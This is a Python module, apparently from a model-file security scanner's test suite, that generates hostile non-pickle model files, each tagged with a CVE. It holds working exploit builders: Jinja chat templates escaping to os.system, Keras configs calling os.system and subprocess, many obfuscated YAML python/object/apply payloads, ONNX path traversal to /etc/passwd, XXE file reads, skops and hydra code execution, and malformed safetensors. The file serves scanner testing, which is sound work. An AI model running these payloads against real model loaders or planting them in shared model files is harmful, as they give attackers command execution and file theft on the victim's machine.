"""What is no pickle and attacks all the same: templates, configurations, links, programs, sizes that lie."""

from __future__ import annotations

import base64
import json
import struct
from collections.abc import Callable, Iterator
from typing import Any, Final

import onnx
from onnx import TensorProto, helper

from .assembly import Attack, Payload
from .containers import zipped

Build = Callable[[Payload], bytes]


def _gguf(template: Callable[[Payload], str]) -> Build:
    def build(payload: Payload) -> bytes:
        text = template(payload).encode()
        key = b"tokenizer.chat_template"
        entry = struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, len(text)) + text
        return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + entry

    return build


def _template(expression: str) -> Callable[[Payload], str]:
    return lambda payload: "{{ " + expression.replace("COMMAND", payload.shell) + " }}"


TEMPLATES: Final[dict[str, Callable[[Payload], str]]] = {
    "by a function's globals": _template("cycler.__init__.__globals__.os.system('COMMAND')"),
    "by joiner": _template("joiner['__init__']['__globals__']['os']['system']('COMMAND')"),
    "by namespace and attr": _template("(namespace|attr('__init__')|attr('__globals__')).get('os').system('COMMAND')"),
    "by a name in pieces": _template("cycler['__in' ~ 'it__']['__glo' ~ 'bals__']['os'].system('COMMAND')"),
    "by escaped letters": _template(
        "cycler['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f'].os.system('COMMAND')"
    ),
    "by a format string": _template("'%s_%s_%s'|format('', 'x', '') and lipsum.__globals__.os.system('COMMAND')"),
    "in a statement": lambda p: "{% set x = lipsum.__globals__['os'].system('" + p.shell + "') %}",
    "by a line of its own": lambda p: "{%- if lipsum.__globals__.os.system('" + p.shell + "') -%}{%- endif -%}",
    "by map": _template(
        "[lipsum]|map(attribute='__globals__')|map(attribute='os')|first|string and"
        " lipsum.__globals__.os.system('COMMAND')"
    ),
}
"""Chat templates that run a command in an engine without a sandbox (CVE-2024-34359)."""


def _keras(layer: dict[str, Any]) -> bytes:
    document = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "m", "layers": [layer]},
        "registered_name": None,
    }
    return zipped({"config.json": json.dumps(document).encode(), "metadata.json": b'{"keras_version": "3.8.0"}'})


def _lambda(payload: Payload) -> dict[str, Any]:
    code = base64.b64encode(payload.marshalled).decode()
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None}}},
    }


def _named(module: str, name: str, **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": name, "config": config, "registered_name": name}


def _wrapped(layer: dict[str, Any]) -> dict[str, Any]:
    return {"module": "keras.layers", "class_name": "TimeDistributed", "config": {"layer": layer}}


KERAS: Final[dict[str, tuple[Build, str]]] = {
    "Keras Lambda": (lambda p: _keras(_lambda(p)), "CVE-2024-3660"),
    "Keras Lambda in a wrapper": (
        lambda p: _keras(_wrapped(_wrapped(_lambda(p)))),
        "protectai/modelscan: nested Lambda",
    ),
    "Keras function of os": (lambda p: _keras(_named("os", "system", command=p.shell)), "CVE-2025-1550"),
    "Keras function of subprocess": (lambda p: _keras(_named("subprocess", "Popen", args=p.words)), "CVE-2025-1550"),
    "Keras get_file": (
        lambda p: _keras(_named("keras.utils", "get_file", fname=p.marker, origin="file:///etc/passwd")),
        "CVE-2025-12058",
    ),
    "Keras load_model": (
        lambda p: _keras(_named("keras.models", "load_model", filepath=p.marker, safe_mode=False)),
        "CVE-2025-9906",
    ),
    "Keras enable_unsafe_deserialization": (
        lambda p: _keras(_named("keras.config", "enable_unsafe_deserialization")),
        "CVE-2025-9906",
    ),
    "Keras TorchModuleWrapper": (
        lambda p: _keras(
            {
                "module": "keras.layers",
                "class_name": "TorchModuleWrapper",
                "config": {"module": base64.b64encode(p.pickle).decode()},
            }
        ),
        "CVE-2025-49655",
    ),
}


def _onnx(path: str) -> Build:
    def build(_: Payload) -> bytes:
        tensor = TensorProto(name="w", data_type=1, dims=[4], data_location=TensorProto.EXTERNAL)
        tensor.external_data.add(key="location", value=path)
        node = helper.make_node("Add", ["x", "w"], ["y"])
        value = helper.make_tensor_value_info
        graph = helper.make_graph([node], "g", [value("x", 1, [4])], [value("y", 1, [4])], [tensor])
        return bytes(onnx.ModelProto.SerializeToString(helper.make_model(graph)))

    return build


def _skops(loader: str, module: str, name: str, **more: Any) -> Build:
    """A schema with one node, as `skops.io.dump` writes it."""
    node = {"__loader__": loader, "__module__": module, "__class__": name, **more}
    return lambda _: zipped({"schema.json": json.dumps({**node, "protocol": 2, "_skops_version": "0.16.0"}).encode()})


_XML: Final = '<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<PMML>&x;</PMML>'

YAML: Final[dict[str, Callable[[Payload], str]]] = {
    "object/apply": lambda p: f"!!python/object/apply:os.system ['{p.shell}']",
    "object/apply in a list": lambda p: f"model: 1\nsteps:\n  - !!python/object/apply:os.system ['{p.shell}']\n",
    "object/new": lambda p: f"!!python/object/new:os.system ['{p.shell}']",
    "object/apply by a handle": lambda p: (
        f"%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\n!p!os.system ['{p.shell}']"
    ),
    "object/apply verbatim": lambda p: f"!<tag:yaml.org,2002:python/object/apply:os.system> ['{p.shell}']",
    "object/apply escaped": lambda p: f"!!python/object/%61pply:os.system ['{p.shell}']",
    "escaped where the type begins": lambda p: f"a: !!p%79thon/object/apply:os.system ['{p.shell}']",
    "escaped and verbatim": lambda p: f"a: !<tag:yaml.org,2002:p%79thon/object/apply:os.system> ['{p.shell}']",
    "by an escaped handle": lambda p: (
        f"%TAG !p! tag%3Ayaml.org,2002:python/object/apply:\n---\na: !p!os.system ['{p.shell}']"
    ),
    "by a handle that ends inside the type": lambda p: (
        f"%TAG ! ta%67:yaml.org,2002:pyt\n---\na: !hon/object/apply:os.system ['{p.shell}']"
    ),
    "behind what looks like XML": lambda p: f"<a : 1\nb: !!python/object/apply:os.system ['{p.shell}']",
    "behind what looks like LightGBM": lambda p: (
        f"tree\nversion=v4\n...\n---\nb: !!python/object/apply:os.system ['{p.shell}']"
    ),
    "of a key": lambda p: f"? !!p%79thon/object/apply:os.system ['{p.shell}']\n: 1",
    "in front matter": lambda p: f"---\na: !!p%79thon/object/apply:os.system ['{p.shell}']\n---\n# A card\n\nA: b: c\n",
    "before what is no YAML": lambda p: f"!!p%79thon/object/apply:os.system ['{p.shell}']\n}}",
    "in UTF-16": lambda p: f"\ufeffa: !!p%79thon/object/apply:os.system ['{p.shell}']",
    "behind tabs, by libyaml": lambda p: f"a:\t!!p%79thon/object/apply:os.system ['{p.shell}']",
    "behind a mark, by libyaml": lambda p: f"a:\n\ufeff!!p%79thon/object/apply:os.system\n  - '{p.shell}'",
}

OTHERS: Final[dict[str, tuple[Build, str, str]]] = {
    "ONNX data out of the folder": (_onnx("../../../etc/passwd"), "CVE-2024-27318", ".onnx"),
    "ONNX data at an absolute path": (_onnx("/etc/passwd"), "CVE-2024-5187", ".onnx"),
    "ONNX data behind a detour": (_onnx("weights/../../../etc/passwd"), "CVE-2022-25882", ".onnx"),
    "skops function of os": (
        _skops("FunctionNode", "os", "system", content={"module_path": "os", "function": "system"}),
        "CVE-2024-37065",
        ".skops",
    ),
    "skops operator of a denied module": (
        _skops("OperatorFuncNode", "operator", "methodcaller"),
        "CVE-2025-54412",
        ".skops",
    ),
    "skops type of a denied module": (_skops("TypeNode", "subprocess", "Popen"), "CVE-2025-54886", ".skops"),
    "skops method with underscores": (
        _skops("MethodNode", "builtins", "str", content={"func": "__globals__", "obj": {}}),
        "CVE-2025-54413",
        ".skops",
    ),
    "XML that reads a file": (lambda p: _XML.encode(), "CVE-2017-5992", ".pmml"),
    "YAML for Java": (lambda p: b"a: !!com.sun.rowset.JdbcRowSetImpl {b: 1}", "CVE-2022-1471", ".yaml"),
    "YAML for Ruby": (lambda p: b"--- !ruby/object:Gem::Installer\ni: x\n", "CVE-2013-0156", ".yaml"),
    "YAML for JavaScript": (lambda p: b"a: !!js/function 'x'", "CVE-2013-4660", ".yaml"),
    "hydra target in flow style": (
        lambda p: f"a: {{x: 1, _target_: os.system, command: {p.shell}}}".encode(),
        "CVE-2025-23304",
        ".yaml",
    ),
    "hydra target with an escaped key": (
        lambda p: f'"\\x5ftarget_": os.system\ncommand: {p.shell}'.encode(),
        "CVE-2025-23304",
        ".yaml",
    ),
    "logging that calls": (
        lambda p: json.dumps({"formatters": {"f": {"()": "os.system", "command": p.shell}}}).encode(),
        "",
        ".json",
    ),
    "policy of Stable-Baselines3": (
        lambda p: json.dumps({"policy": {":serialized:": base64.b64encode(p.pickle).decode()}}).encode(),
        "",
        ".json",
    ),
    "YAML with a pickle": (lambda p: b"a: !!binary " + base64.b64encode(p.pickle), "", ".yaml"),
    "tokenizer with a hostile template": (
        lambda p: json.dumps({"chat_template": TEMPLATES["by a function's globals"](p)}).encode(),
        "CVE-2024-34359",
        ".json",
    ),
}
NOT_CLEAN: Final[dict[str, tuple[Build, str]]] = {
    "configuration with remote code": (lambda p: b'{"auto_map": {"AutoModel": "x--y.Model"}}', ".json"),
    "adapter of a library of its own": (
        lambda p: b'{"auto_mapping": {"base_model_class": "Net", "parent_library": "evil"}}',
        ".json",
    ),
    "sentence transformer of its own": (
        lambda p: b'[{"idx": 0, "name": "0", "path": "", "type": "custom_st.Module"}]',
        ".json",
    ),
    "diffusers part of its own": (lambda p: b'{"unet": ["my_unet", "Net"]}', ".json"),
    "remote code in an escaped key": (lambda p: b'"auto\\u005fmap": {AutoModel: x--y.Model}', ".yaml"),
    "YAML with a type of an application": (lambda p: b"Resources: {A: !Ref x}", ".yaml"),
    "number of too many digits": (lambda p: b"\x80\x02I" + b"1" * 5000 + b"\n.", ".pkl"),
    "safetensors with overlapping tensors": (
        lambda p: (lambda header: struct.pack("<Q", len(header)) + header + bytes(8))(
            b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
        ),
        ".safetensors",
    ),
    "safetensors with a header of exabytes": (lambda p: struct.pack("<Q", 1 << 62) + b"{}", ".safetensors"),
    "program": (lambda p: b"\x7fELF" + bytes(200), ".bin"),
    "script": (lambda p: f"#!/bin/sh\n{p.shell}\n".encode(), ".bin"),
    "7z": (lambda p: b"7z\xbc\xaf\x27\x1c" + bytes(60), ".7z"),
    "XML with entities upon entities": (
        lambda p: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>',
        ".xml",
    ),
    "nothing": (lambda p: b"", ".pkl"),
}


def attacks() -> Iterator[Attack]:
    """One file for each."""
    for name, template in TEMPLATES.items():
        yield Attack(
            f"GGUF template {name}", "other formats", _gguf(template), "gguf-template", "CVE-2024-34359", suffix=".gguf"
        )
    for name, (build, advisory) in KERAS.items():
        yield Attack(name, "other formats", build, "", advisory, suffix=".keras")
    for name, document in YAML.items():
        yield Attack(f"YAML {name}", "other formats", _encoded(document), "yaml", "CVE-2020-14343", suffix=".yaml")
    for name, (build, advisory, suffix) in OTHERS.items():
        yield Attack(name, "other formats", build, "", advisory, suffix=suffix)
    for name, (build, suffix) in NOT_CLEAN.items():
        yield Attack(name, "other formats", build, "", expected="UNKNOWN", suffix=suffix)


def _encoded(document: Callable[[Payload], str]) -> Build:
    """In UTF-8, or in UTF-16 where the text begins with a mark."""

    def build(payload: Payload) -> bytes:
        text = document(payload)
        return text.encode("utf-16-le" if text.startswith("\ufeff") else "utf-8")

    return build
